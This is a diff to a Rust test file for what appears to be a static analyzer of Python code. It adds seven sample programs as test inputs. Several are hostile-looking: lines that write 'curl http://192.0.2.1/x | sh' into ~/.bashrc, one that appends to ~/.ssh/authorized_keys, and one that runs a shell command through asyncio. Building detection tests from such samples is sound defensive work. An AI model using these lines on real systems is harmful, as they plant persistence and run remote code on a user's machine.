@@ -34,6 +34,17 @@ const COMPILED: [&str; 2] = [
     include_str!("../../../python/testdata/bytecode/lost-3.13.txt"),
 ];
 
+/// Programs that reach what they use through what something else gives.
+const REACHING: [&str; 7] = [
+    "from pathlib import Path\nPath.home().joinpath('.bashrc').write_text('curl http://192.0.2.1/x | sh')\n",
+    "from pathlib import Path\n(Path.home() / '.bashrc').write_text('curl http://192.0.2.1/x | sh')\n",
+    "import pathlib\np = pathlib.PosixPath.cwd()\n(p / '..' / '.ssh' / 'authorized_keys').open('a').write('x')\n",
+    "import requests\nrequests.Session().mount('http://192.0.2.1', 1)\n",
+    "import requests as r\ns = r.Session()\ns.send(1)\n",
+    "import urllib.request as u\nu.build_opener().open('http://192.0.2.1/x')\n",
+    "import asyncio\nasync def f(): await asyncio.get_event_loop().subprocess_shell(None, 'id')\nasyncio.run(f())\n",
+];
+
 #[test]
 fn walking_what_is_left_finds_nothing_more() {
     let mut files = Tree::default();
@@ -41,6 +52,9 @@ fn walking_what_is_left_finds_nothing_more() {
     for (index, program) in programs.enumerate() {
         let (_, source) = program.split_once('\n').unwrap();
         files = files.file(&format!("{index}.py"), source);
+    }
+    for (index, source) in REACHING.iter().enumerate() {
+        files = files.file(&format!("reaching-{index}.py"), *source);
     }
     for (index, line) in COMPILED.iter().flat_map(|lines| lines.lines()).enumerate() {
         let digits = line.as_bytes().chunks(2).map(|pair| std::str::from_utf8(pair).unwrap());
